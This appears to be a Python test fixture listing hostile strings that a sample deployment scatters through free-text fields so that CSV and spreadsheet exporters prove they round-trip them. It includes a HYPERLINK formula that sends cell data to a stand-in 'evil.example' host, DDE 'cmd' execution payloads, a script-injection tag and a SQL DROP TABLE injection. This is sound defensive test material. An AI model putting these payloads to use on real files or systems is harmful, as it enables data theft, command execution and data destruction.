"""Strings that break naive exporters: CSV and spreadsheet injection, quoting, newlines, scripts.

The sample deployment scatters them through every free-text field (sources, error messages,
log messages and extras, the config file) so that each export format proves it round-trips
them, and no reader splits, executes or truncates them.
"""

from __future__ import annotations

# About 5 KB with a recognisable structure, so a truncation shows where it happened.
_LONG = "long-value:" + "".join(f"{n:04d}|" for n in range(1024))

HOSTILE_STRINGS: tuple[str, ...] = (
    # Spreadsheet formula injection: first, so that the sample puts them at the start of fields.
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "O'Brien said \"it's a 'proxy'\"",
    "comma, separated, values, here",
    "first line\nsecond line",
    "carriage\rreturn only",
    "windows\r\nline ending",
    "tab\tseparated\tcolumns",
    "control \x01 bell \x07 escape \x1b[31mred\x1b[0m delete \x7f end",
    "unicode line\u2028separator and next\x85line",
    "Прокси-сервер недоступен (Москва)",
    "代理服务器超时 東京のプロキシ",
    "الخادم الوكيل غير متاح",
    "proxy down 🌀🔥👩‍💻 🇺🇦",
    "C:\\Users\\proxy\\new\\table\\x41.txt \\\\server\\share \\n not a newline",
    "</script><script>alert('x')</script>",
    "'; DROP TABLE proxy_identities; --",
    "  leading and trailing spaces  ",
    _LONG,
)
